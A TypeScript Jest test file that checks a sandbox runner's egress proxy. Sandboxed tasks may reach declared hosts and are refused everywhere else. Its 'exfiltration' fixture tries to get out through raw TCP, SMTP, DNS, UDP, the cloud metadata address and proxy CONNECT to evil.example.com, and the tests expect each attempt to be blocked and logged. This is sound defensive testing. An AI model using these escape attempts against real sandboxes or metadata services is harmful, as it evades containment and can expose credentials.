/** Real tasks in real sandboxes, through the proxy to servers on loopback that only these tests may reach. */
import { execFileSync, spawnSync } from 'node:child_process';
import { createServer as createTlsServer } from 'node:https';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { SandboxRunner } from '../../../runner/sandbox/sandbox-runner.ts';
import { systemClock } from '../../../shared/embedded/system-clock.ts';
import type { EgressTrace } from '../../../shared/port/egress-trace.ts';
import type { LogLine, TaskResult, TaskSpec } from '../../../shared/port/runner.ts';
import { testUnless } from '../../support/runner-harness.ts';
import { buildTaskSpec } from '../../support/build-task-spec.ts';

const base = mkdtempSync(join(tmpdir(), 'mc-egress-'));
const answered: string[] = [];
const servers: Server[] = [];
let tlsPort = 0;
let httpPort = 0;
let certificate = '';

async function listen(server: Server): Promise<number> {
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return (server.address() as AddressInfo).port; // A server on a TCP port has one.
}

beforeAll(async () => {
  if (noOpenssl !== undefined) return;
  const [key, cert] = [join(base, 'key.pem'), join(base, 'cert.pem')];
  const subject = ['-subj', '/CN=api.example.com', '-addext', 'subjectAltName=DNS:api.example.com'];
  execFileSync(
    'openssl',
    [
      'req',
      '-x509',
      '-newkey',
      'ec',
      '-pkeyopt',
      'ec_paramgen_curve:P-256',
      '-nodes',
      '-days',
      '2',
      ...subject,
      '-keyout',
      key,
      '-out',
      cert,
    ],
    {
      stdio: 'ignore',
    },
  );
  certificate = readFileSync(cert, 'utf8');
  tlsPort = await listen(
    createTlsServer({ key: readFileSync(key), cert: certificate }, (request, response) => response.end(`tls ${request.url}`)),
  );
  httpPort = await listen(createServer((request, response) => response.end(`plain ${request.url}`)));
  for (const server of servers) server.on('request', (request: { url: string }) => answered.push(request.url));
});

afterAll(() => {
  for (const server of servers) server.close().closeAllConnections();
  rmSync(base, { recursive: true, force: true });
});

interface Outcome {
  result: TaskResult;
  logs: LogLine[];
  egress: EgressTrace | null;
}

const levels = ['bubblewrap-seccomp', 'bubblewrap', 'node-permission'] as const;

async function runnerOf(level: (typeof levels)[number]): Promise<SandboxRunner> {
  return new SandboxRunner({
    clock: systemClock,
    folder: join(base, level),
    highestLevel: level,
    egress: {
      resolver: { resolve: (host) => Promise.resolve(host === 'api.example.com' ? ['127.0.0.1'] : ['8.8.8.8']) },
      loopbackTargets: [`127.0.0.1:${tlsPort}`, `127.0.0.1:${httpPort}`],
    },
  });
}

async function run(level: (typeof levels)[number], entry: string, fields: Partial<TaskSpec> = {}): Promise<Outcome> {
  const runner = await runnerOf(level);
  const egress = [{ host: 'api.example.com', ports: [tlsPort, httpPort] }];
  const inputs = { tlsPort, httpPort, certificate };
  const sandbox = await runner.provision(buildTaskSpec({ entry, egress, inputs, ...fields }));
  try {
    const result = await sandbox.execute(new AbortController().signal);
    return { result, logs: await sandbox.collectLogs(), egress: await sandbox.collectEgress() };
  } finally {
    await sandbox.release();
  }
}

const clients = `
  import http, { Agent as NamedAgent } from 'node:http'; import https from 'node:https';
  const text = (module, url, options = {}) => new Promise((resolve, reject) => module.get(url, options, (answer) => {
    let body = ''; answer.setEncoding('utf8').on('data', (part) => (body += part)).on('end', () => resolve(body)); }).on('error', reject));
  export default async ({ inputs: { tlsPort, httpPort, certificate: ca } }) => ({
    fetch: await (await fetch('http://api.example.com:' + httpPort + '/fetch')).text(),
    http: await text(http, 'http://api.example.com:' + httpPort + '/http'),
    ownAgent: await text(http, 'http://api.example.com:' + httpPort + '/own-agent', { agent: new NamedAgent({ keepAlive: true }) }),
    https: await text(https, 'https://api.example.com:' + tlsPort + '/https', { ca }),
    ownTlsAgent: await text(https, 'https://api.example.com:' + tlsPort + '/own-tls-agent', { agent: new https.Agent({ ca }) }),
  });`;

/** What of the network a task tries past the proxy, and through it; each answers the code of the error. */
const exfiltration = `
  import net from 'node:net'; import dns from 'node:dns/promises'; import dgram from 'node:dgram'; import http from 'node:http';
  const reach = (port, host) => new Promise((resolve, reject) => net.connect({ port, host }).setTimeout(2000, () => reject(new Error('timeout'))).on('connect', resolve).on('error', reject));
  const proxied = (target) => new Promise((resolve, reject) => http.request({ host: '127.0.0.1', port: 3128, method: 'CONNECT', path: target, headers: { host: target }, agent: false })
    .on('connect', (answer) => (answer.statusCode === 200 ? resolve() : reject(new Error(answer.headers['x-mc-egress'])))).on('error', reject).end());
  export default async ({ inputs: { tlsPort, httpPort } }) => {
    const found = {};
    const attempt = async (name, run) => { try { await run(); found[name] = 'REACHED'; } catch (error) { found[name] = 'refused'; } };
    await attempt('listed server, past the proxy', () => reach(httpPort, '127.0.0.1'));
    await attempt('raw TCP', () => reach(443, '8.8.8.8'));
    await attempt('SMTP', () => reach(25, '8.8.8.8'));
    await attempt('metadata service', () => reach(80, '169.254.169.254'));
    await attempt('DNS', () => dns.lookup('secret.example.com'));
    await attempt('DNS by hand', async () => { const resolver = new dns.Resolver({ timeout: 500, tries: 1 }); resolver.setServers(['8.8.8.8']); await resolver.resolve4('secret.example.com'); });
    await attempt('UDP', () => new Promise((resolve, reject) => { const socket = dgram.createSocket('udp4').on('error', reject); socket.send('x', 53, '8.8.8.8', (error) => { socket.close(); error ? reject(error) : resolve(); }); }));
    await attempt('another host', () => proxied('evil.example.com:443'));
    await attempt('another port', () => proxied('api.example.com:22'));
    await attempt('mail through the proxy', () => proxied('mail.example.com:25'));
    await attempt('metadata through the proxy', () => proxied('169.254.169.254:80'));
    await attempt('loopback through the proxy', () => proxied('127.0.0.1:' + httpPort));
    return found;
  };`;

const noOpenssl = spawnSync('openssl', ['version']).status === 0 ? undefined : 'openssl, which makes the certificate, is not here';
const descriptions = await Promise.all(levels.map(async (level) => (await runnerOf(level)).describe()));

describe.each(levels)('a task with egress in the sandbox %s', (level) => {
  const found = descriptions[levels.indexOf(level)];
  const networkBlocked = found?.networkBlocked ?? false;
  const otherLevel = found?.level === level ? undefined : `this machine has no ${level}`;
  const check = testUnless(noOpenssl ?? otherLevel);
  const checkBlocked = testUnless(noOpenssl ?? otherLevel ?? (networkBlocked ? undefined : 'no network namespace can be had here'));

  check('reaches what it declares with every client of Node, and the calls are counted', async () => {
    const { result, egress, logs } = await run(level, clients);
    expect(result).toMatchObject({
      kind: 'succeeded',
      outputs: {
        fetch: 'plain /fetch',
        http: 'plain /http',
        ownAgent: 'plain /own-agent',
        https: 'tls /https',
        ownTlsAgent: 'tls /own-tls-agent',
      },
    });
    expect(egress).toMatchObject({ mode: 'enforce', enforced: networkBlocked, blocked: 0, wouldBlock: 0, unlisted: 0 });
    expect(egress?.rows).toEqual([
      { host: 'api.example.com', port: httpPort, verdict: 'allowed', reason: 'listed', count: 3, bytes: expect.any(Number) },
      { host: 'api.example.com', port: tlsPort, verdict: 'allowed', reason: 'listed', count: 2, bytes: expect.any(Number) },
    ]);
    for (const { bytes } of egress?.rows ?? []) expect(bytes).toBeGreaterThan(200);
    expect(logs).toContainEqual(
      expect.objectContaining({ text: `egress: only to api.example.com:${tlsPort} api.example.com:${httpPort}` }),
    );
  });

  checkBlocked('reaches nothing else where the sandbox blocks the network, and each call is in its log', async () => {
    answered.length = 0;
    const { result, egress, logs } = await run(level, exfiltration);
    if (result.kind === 'failed') throw new Error(result.message);
    expect(Object.entries(result.outputs).filter(([, outcome]) => outcome !== 'refused')).toEqual([]);
    expect(Object.keys(result.outputs)).toHaveLength(12);
    expect(answered).toEqual([]);
    expect(egress).toMatchObject({ enforced: true, blocked: 5 });
    expect(egress?.rows.map(({ host, port, reason }) => `${host}:${port} ${reason}`)).toEqual([
      'evil.example.com:443 not-listed',
      'api.example.com:22 not-listed',
      'mail.example.com:25 not-listed',
      '169.254.169.254:80 not-listed',
      `127.0.0.1:${httpPort} not-listed`,
    ]);
    const said = logs.filter(({ text }) => text.startsWith('egress blocked: '));
    expect(said).toHaveLength(5);
    expect(said[0]?.text).toBe('egress blocked: evil.example.com:443, not on the list of the task');
  });

  check('has no socket when it declares nothing, in shadow mode neither', async () => {
    const entry = `import fs from 'node:fs'; import net from 'node:net';
      const knock = (path) => new Promise((resolve) => net.connect({ path }).on('connect', () => resolve('REACHED')).on('error', (error) => resolve(error.code)));
      export default async ({ inputs, workspace }) => {
        const codes = [await knock(inputs.path), await knock(workspace + '/../egress/proxy.sock')];
        return { codes, proxy: process.env.HTTPS_PROXY ?? 'none' };
      };`;
    const path = '/mc/egress/proxy.sock';
    for (const egressMode of ['enforce', 'shadow'] as const) {
      const { result, egress } = await run(level, entry, { egress: [], egressMode, inputs: { path } });
      expect(result).toMatchObject({ kind: 'succeeded', outputs: { codes: ['ENOENT', 'ENOENT'], proxy: 'none' } });
      expect(egress).toBeNull();
    }
  });

  check('in shadow mode reaches a public host outside of its list, and its log says so', async () => {
    const egress = [{ host: 'other.example.com', ports: [443] }];
    const entry = `export default async ({ inputs }) => ({ text: await (await fetch('http://api.example.com:' + inputs.httpPort + '/shadow')).text() });`;
    const outcome = await run(level, entry, { egress, egressMode: 'shadow' });
    expect(outcome.result).toMatchObject({ kind: 'succeeded', outputs: { text: 'plain /shadow' } });
    expect(outcome.egress).toMatchObject({ mode: 'shadow', blocked: 0, wouldBlock: 1 });
    expect(outcome.logs.map(({ text }) => text).join('\n')).toMatch(/SHADOW MODE[\s\S]*egress would-block: api\.example\.com/);
  });
});

describe('the exception for loopback', () => {
  test('is named by nothing that a home is made of', () => {
    const sources = ['cli/host/embedded-deps.ts', 'functions/wire/aws-deps.ts', 'shared/package/egress.ts', 'shared/tenant/tenant.ts'];
    for (const path of sources) expect(readFileSync(new URL(`../../../${path}`, import.meta.url), 'utf8')).not.toContain('loopbackTargets');
  });
});
